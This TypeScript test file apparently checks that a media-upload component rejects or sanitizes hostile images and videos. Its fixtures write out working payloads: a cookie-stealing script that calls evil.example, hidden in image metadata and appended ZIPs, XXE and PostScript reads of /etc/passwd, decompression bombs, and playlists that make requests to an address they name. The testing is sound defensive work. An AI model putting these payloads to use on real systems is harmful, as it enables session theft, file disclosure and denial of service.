import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer } from 'node:http';
import { deflateSync } from 'node:zlib';
import { after, describe, test } from 'node:test';
import fc from 'fast-check';
import sharp from 'sharp';
import { createLog } from '#foundation/log';
import { openMedia } from '../../src/evidence/media/media.ts';
import { makeHeic } from '../support/heic.ts';
import { pngChunk, pngOf } from '../support/hostile-pictures.ts';
import { makeVideo } from '../support/videos.ts';

/** Files that somebody sends who wants something else than to prove who they are. */

const media = openMedia(createLog({ level: 'silent' }));
after(() => media.close());

async function send(kind: 'image' | 'video', content: Buffer): Promise<{ found: string; kept: Buffer }> {
  const parts: Uint8Array[] = [];
  const read = async (offset: number, length: number) => content.subarray(offset, offset + length);
  const write = async (part: Uint8Array) => void parts.push(part);
  const found = await media.examine[kind]({ bytes: content.length, read }, write);
  return { found: found.outcome === 'refused' ? found.reason : 'checked', kept: Buffer.concat(parts) };
}

const outcome = async (kind: 'image' | 'video', content: Buffer): Promise<string> =>
  (await send(kind, content)).found;

const script = '<script>fetch("//evil.example/"+document.cookie)</script>';
const zip = Buffer.concat([
  Buffer.from('PK\u0003\u0004'),
  Buffer.from(script),
  Buffer.from('PK\u0005\u0006'),
  Buffer.alloc(18),
]);
/** Traces of all that is planted, each too long to stand by chance in a picture, in which four letters do. */
const traces = ['evil.example', '<script>', zip.subarray(0, 12), 'Exif\0\0', '<html>', 'adobe.com'];
const photo = await sharp({
  create: {
    width: 1200,
    height: 900,
    channels: 3,
    background: '#777',
    noise: { type: 'gaussian', mean: 128, sigma: 20 },
  },
})
  .jpeg()
  .toBuffer();
const png = await sharp(photo).resize(900, 900).png({ compressionLevel: 1 }).toBuffer();
const webp = await sharp(photo).webp().toBuffer();
const heic = await makeHeic({ width: 1024, height: 832 });
const manyTiles = await makeHeic({
  width: 512,
  height: 512,
  columns: 2,
  rows: 1,
  says: { width: 100_000, height: 100_000 },
});
const film = await makeVideo({ format: 'mp4', codec: 'h264', audio: 'aac' });
const recording = await makeVideo({ format: 'webm', codec: 'vp9', audio: 'opus', muxer: { live: 1 } });

/** A JPEG with a segment after its start. */
function withSegment(marker: number, content: Buffer | string): Buffer {
  const body = Buffer.from(content);
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([photo.subarray(0, 2), head, body, photo.subarray(2)]);
}

describe('a picture that is something else as well', () => {
  const polyglots: Readonly<Record<string, Buffer>> = {
    'a ZIP behind it': Buffer.concat([photo, zip]),
    'a page in its comment': withSegment(0xfe, `--><html>${script}</html>`),
    'a script in its Exif': withSegment(0xe1, `Exif\0\0MM\0*\0\0\0\b${script}`),
    'a script as XMP': withSegment(0xe1, `http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>${script}</x:xmpmeta>`),
    'a ZIP in a colour profile': withSegment(
      0xe2,
      Buffer.concat([Buffer.from('ICC_PROFILE\0\u0001\u0001'), zip]),
    ),
    'a page behind it': Buffer.concat([photo, Buffer.from(`<html>${script}`)]),
    'a PNG with a script as text': pngOf({
      width: 900,
      height: 900,
      extra: [pngChunk('tEXt', Buffer.from(`Comment\0${script}`))],
    }),
    'a PNG with a ZIP behind it': Buffer.concat([png, zip]),
    'a WebP with a ZIP behind it': Buffer.concat([webp, zip]),
    'a HEIC with a page behind it': Buffer.concat([heic, Buffer.from(`\0\0\0\0free<html>${script}`)]),
  };
  for (const [name, content] of Object.entries(polyglots))
    test(`(${name}) is kept without that`, async () => {
      assert.ok(content.includes('evil.example'));
      const { found, kept } = await send('image', content);
      assert.ok(['checked', 'damaged'].includes(found), found);
      if (found === 'checked') {
        assert.equal((await sharp(kept).metadata()).format, 'jpeg');
        for (const trace of traces) assert.ok(!kept.includes(trace), String(trace));
        assert.deepEqual([...kept.subarray(-2)], [0xff, 0xd9]);
      }
    });

  test('and begins as that is refused', async () => {
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="1000" height="1000">${script}</svg>`;
    const others = [
      svg,
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>${svg}`,
      `GIF89a\u0010\0\u0010\0/*${script}`,
      `%PDF-1.7\n${script}`,
      `<html>${script}</html>`,
      '#!/bin/sh\n:',
      'MZ\u0090\0',
      '%!PS-Adobe-3.0\n(/etc/passwd) (r) file',
      'push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 "https://evil.example/"\n',
      'BM'.padEnd(300, '\0'),
      'II*\0'.padEnd(300, '\0'),
      '\0\0\0\fjP  \r\n\u0087\n'.padEnd(300, '\0'),
      '\u00ff\n'.padEnd(300, '\0'),
    ].map((text) => Buffer.from(text, 'latin1'));
    for (const other of [...others, zip, ...others.map((text) => Buffer.concat([text, photo]))])
      assert.equal(await outcome('image', other), 'wrong_type', other.toString('latin1', 0, 20));
  });
});

describe('a picture that would fill memory', () => {
  const bombs: Readonly<Record<string, readonly [Buffer, string]>> = {
    'a PNG of 20,000 by 20,000 pixels in a megabyte': [
      pngOf({ width: 20_000, height: 20_000 }),
      'too_many_pixels',
    ],
    'one that says it is as large as can be said': [relabelled(png, 2_147_483_647), 'too_many_pixels'],
    'a JPEG of which only the header is large': [resized(photo, 65_500), 'too_many_pixels'],
    'an interlaced PNG, which is held whole': [
      pngOf({ width: 6000, height: 6000, isInterlaced: true }),
      'too_many_pixels',
    ],
    'with megabytes of text in a few kilobytes': [
      pngOf({ width: 900, height: 900, extra: [textBomb()] }),
      'checked',
    ],
    'a HEIC of many more tiles than it has': [manyTiles, 'too_many_pixels'],
  };
  for (const [name, [content, expected]] of Object.entries(bombs))
    test(`(${name}) ends as ${expected}`, async () => {
      assert.ok(content.length < 10_000_000);
      assert.equal(await outcome('image', content), expected);
    });
});

/** Compressed text that comes to 60 MB. */
function textBomb(): Buffer {
  return pngChunk(
    'zTXt',
    Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(Buffer.alloc(60_000_000, 'A'))]),
  );
}

function relabelled(content: Buffer, side: number): Buffer {
  const header = Buffer.from(content.subarray(16, 29));
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  return Buffer.concat([content.subarray(0, 8), pngChunk('IHDR', header), content.subarray(33)]);
}

function resized(content: Buffer, side: number): Buffer {
  const changed = Buffer.from(content);
  const frame = changed.indexOf(Buffer.from([0xff, 0xc0]));
  changed.writeUInt16BE(side, frame + 5);
  changed.writeUInt16BE(side, frame + 7);
  return changed;
}

describe('a video that is something else', () => {
  test('names other files and addresses in vain: nothing is asked for', async (t) => {
    const heard: (string | undefined)[] = [];
    const server = createServer((request, response) => {
      heard.push(request.url);
      response.end();
    }).listen(0, '127.0.0.1');
    t.after(() => server.close());
    await once(server, 'listening');
    const address = server.address();
    assert.ok(address !== null && typeof address === 'object');
    const url = `http://127.0.0.1:${address.port}`;
    const lists = [
      `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\n${url}/a.ts\n#EXTINF:1.0,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n`,
      `ffconcat version 1.0\nfile '${url}/b.mp4'\nfile 'file:///etc/passwd'\n`,
      `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><BaseURL>${url}/c</BaseURL></MPD>`,
      `[playlist]\nFile1=${url}/d\n`,
      `v=0\r\nc=IN IP4 127.0.0.1\r\nm=video ${address.port} RTP/AVP 96\r\n`,
      `http,tcp:${url}/e`,
      `1\n00:00:00,000 --> 00:00:10,000\n<img src="${url}/f">\n`,
    ].map((text) => Buffer.from(text.padEnd(400)));
    for (const list of lists) {
      assert.equal(await outcome('video', list), 'wrong_type');
      assert.equal(await outcome('video', Buffer.concat([list, film])), 'wrong_type');
    }
    // Whatever becomes of it.
    await send('video', withReference(film, url));
    assert.deepEqual(heard, []);
  });

  test('is refused when it is a picture, sound alone, or nothing', async () => {
    for (const other of [
      photo,
      png,
      heic,
      zip,
      Buffer.alloc(0),
      Buffer.alloc(100_000),
      Buffer.from('RIFF\0\0\0\0AVI LIST'),
    ])
      assert.equal(await outcome('video', other), 'wrong_type');
  });

  test('is kept without what is behind it or beside it, or not at all', async () => {
    const boxed = Buffer.concat([
      film,
      Buffer.from([0, 0, 0, 8 + script.length]),
      Buffer.from(`free${script}`),
    ]);
    const { found, kept } = await send('video', boxed);
    assert.equal(found, 'checked');
    assert.ok(!kept.includes('evil.example'));
    assert.equal(await outcome('video', Buffer.concat([film, zip])), 'damaged');
    assert.equal(await outcome('video', Buffer.concat([recording, zip])), 'damaged');
  });
});

/** An MP4 whose first track says that its content is at an address. */
function withReference(content: Buffer, url: string): Buffer {
  const changed = Buffer.from(content);
  const at = changed.indexOf('url ');
  assert.ok(at > 0);
  changed[at + 7] = 0;
  return Buffer.concat([changed, Buffer.from(`\0\0\0\u0040url ${url}`.padEnd(64, '\0'))]);
}

describe('a file in which bits are changed', () => {
  const whole = { jpeg: photo, png, webp, heic, film, recording };
  for (const [name, content] of Object.entries(whole))
    test(`(${name}) is refused or written anew, and what looks at it lives on`, async () => {
      const kind = name === 'film' || name === 'recording' ? 'video' : 'image';
      const start = kind === 'image' ? [0xff, 0xd8, 0xff] : [0x1a, 0x45, 0xdf];
      const places = fc.oneof(fc.nat(Math.min(2000, content.length - 1)), fc.nat(content.length - 1));
      const changes = fc.array(fc.tuple(places, fc.integer({ min: 1, max: 255 })), {
        minLength: 1,
        maxLength: 12,
      });
      await fc.assert(
        fc.asyncProperty(changes, async (all) => {
          const changed = Buffer.from(content);
          for (const [at, bits] of all) changed[at] = (changed[at] ?? 0) ^ bits;
          const { found, kept } = await send(kind, changed);
          if (found === 'checked') assert.deepEqual([...kept.subarray(0, 3)], start);
          else assert.notEqual(found, 'busy');
        }),
        { numRuns: kind === 'image' ? 12 : 8 },
      );
      assert.equal(await outcome(kind, content), 'checked');
    });

  test('or that is all chance is refused, whatever it begins with', async () => {
    const starts = [
      ['image', Buffer.from([0xff, 0xd8, 0xff, 0xe0])],
      ['image', png.subarray(0, 33)],
      ['image', webp.subarray(0, 30)],
      ['image', heic.subarray(0, 60)],
      ['video', film.subarray(0, 40)],
      ['video', recording.subarray(0, 60)],
    ] as const;
    for (const [kind, start] of starts) {
      const [chance] = fc.sample(fc.uint8Array({ minLength: 5000, maxLength: 5000 }), 1);
      assert.equal(await outcome(kind, Buffer.concat([start, chance ?? Buffer.of()])), 'damaged');
    }
  });
});
